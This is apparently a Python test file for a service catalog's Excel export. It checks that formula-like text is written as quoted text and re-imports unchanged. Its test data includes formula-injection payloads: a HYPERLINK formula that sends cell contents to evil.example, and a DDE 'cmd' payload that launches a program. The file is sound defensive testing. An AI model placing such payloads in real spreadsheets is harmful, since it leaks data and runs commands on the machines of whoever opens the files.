"""Formula injection (issue 12, 6): a text that begins like a formula is exported as text in every
workbook, and a catalog export imported again keeps it exactly."""

import io
import zipfile

from openpyxl import load_workbook

from servicehall.catalog import excel, selectors
from servicehall.catalog.models import ItemVersion, Material
from servicehall.catalog.tests.test_excel import catalog_of, twin

FORMULAS = {
    "legal_basis": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "conditions": "=cmd|' /C calc'!A0",
    "quantity_limits": "+1+1",
    "fee_basis": "@SUM(1,2)",
}
MATERIAL = "-2+3 身份证"


def _no_formula_anywhere(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in book.read(name).decode(), name


def _cells_with(data: bytes, values) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in values]


def test_catalog_export_writes_formula_like_text_as_text_and_reimports_it_exactly(catalog, user_named):
    version = selectors.guide(catalog, "KY-CL-001")
    ItemVersion.objects.filter(pk=version.pk).update(**FORMULAS)
    Material.objects.filter(pk=version.materials.order_by("position").first().pk).update(name=MATERIAL)
    data = excel.export(catalog)
    _no_formula_anywhere(data)
    cells = _cells_with(data, {*FORMULAS.values(), MATERIAL})
    assert len(cells) == 5
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)

    empty = twin(catalog, "kaiyuan-copy", "kaiyuan-2020")
    counts, errors = excel.import_file(
        actor=user_named("admin"), center=empty, file=io.BytesIO(data), reason="复制"
    )
    assert errors == [] and counts["created"] == 25
    copied = selectors.guide(empty, "KY-CL-001")
    assert {f: getattr(copied, f) for f in FORMULAS} == FORMULAS
    assert copied.materials.order_by("position").first().name == MATERIAL
    assert catalog_of(empty) == catalog_of(catalog)
